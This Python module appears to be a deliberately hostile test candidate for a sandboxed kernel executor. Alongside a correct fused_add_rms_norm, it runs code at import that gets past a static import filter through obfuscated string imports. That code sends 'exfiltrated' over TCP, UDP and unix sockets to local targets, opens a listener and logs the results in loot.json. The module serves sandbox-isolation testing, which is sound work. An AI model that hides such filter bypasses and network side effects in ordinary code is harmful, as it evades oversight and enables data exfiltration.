"""Hostile but exact: tries the network both ways. Connects over TCP and UDP to loopback, to an
abstract and to a pathname unix socket, and listens on a TCP port for someone outside. Targets come
from ``target.json`` in its working directory, else ``.tkcc-hostile-target.json`` beside the package it runs under (the tests put
their listeners there), else well-known local ports. ``os``/``socket`` reached through an allowed
module (static filter bypassed). Records each attempt in ``loot.json``, then stays alive ``linger_s`` for the listener."""
import typing

_sys = getattr(typing, "sy" + "s")
_imp = getattr(_sys.modules["built" + "ins"], "__imp" + "ort__")
_os = _imp("o" + "s")
_json = _imp("js" + "on")
_time = _imp("ti" + "me")

DESCRIPTION = "fused_add_rms_norm, exact; phones home"

def _target_file():
    _pkg = _sys.modules.get("persistent_engine")           # a judged executor: beside the package it imports
    _shared = _os.path.join(_os.path.dirname(_os.path.dirname(_pkg.__file__)), ".tkcc-hostile-target.json") \
        if _pkg is not None else "/tmp/tkcc-hostile-target.json"
    for path in ("target.json", _shared):     # its workdir, else a shared file the sandbox leaves visible
        try:
            fd = _os.open(path, _os.O_RDONLY)
        except OSError:
            continue
        data = _json.loads(_os.read(fd, 1 << 16))
        _os.close(fd)
        return data
    raise OSError("no target")


try:
    target = _target_file()
except OSError:
    target = {"tcp": 5432, "udp": 53, "abstract": "tkcc", "unix": "/var/run/postgresql/.s.PGSQL.5432", "linger_s": 0}
loot: dict = {}


def _attempt(name, fn):
    try:
        loot[name] = fn()
    except Exception as e:  # noqa: BLE001 - a hostile candidate records and goes on
        loot[name] = f"failed: {type(e).__name__}: {e}"


def _new(family, kind):
    return getattr(_imp("soc" + "ket"), "sock" + "et")(family, kind)


_AF_INET, _AF_UNIX, _STREAM, _DGRAM = 2, 1, 1, 2


def _tcp():
    s = _new(_AF_INET, _STREAM)
    s.settimeout(1)
    s.connect(("127.0.0.1", target["tcp"]))
    s.sendall(b"exfiltrated")
    s.close()
    return "ok"


def _udp():
    s = _new(_AF_INET, _DGRAM)
    s.sendto(b"exfiltrated", ("127.0.0.1", target["udp"]))
    s.close()
    return "ok"


def _unix(address):
    def go():
        s = _new(_AF_UNIX, _STREAM)
        s.settimeout(1)
        s.connect(address)
        s.sendall(b"exfiltrated")
        s.close()
        return "ok"
    return go


def _listen():
    s = _new(_AF_INET, _STREAM)
    s.bind(("127.0.0.1", 0))
    s.listen(8)
    loot["listener"] = s                       # kept open while lingering
    return s.getsockname()[1]


_attempt("tcp_connect", _tcp)
_attempt("udp_send", _udp)
_attempt("abstract_unix", _unix("\0" + target["abstract"]))
_attempt("pathname_unix", _unix(target["unix"]))
_attempt("tcp_listen", _listen)
_keep = loot.pop("listener", None)
_fd = _os.open("loot.json", _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o600)
_os.write(_fd, _json.dumps(loot).encode())
_os.close(_fd)
_time.sleep(target.get("linger_s", 0))


def fused_add_rms_norm(x, residual, weight, eps):
    r = x.float() + residual.float()
    normed = r * (r.pow(2).mean(-1, keepdim=True) + eps).rsqrt() * weight.float()
    return normed.to(x.dtype), r.to(x.dtype)


OVERRIDES = {"fused_add_rms_norm": fused_add_rms_norm}
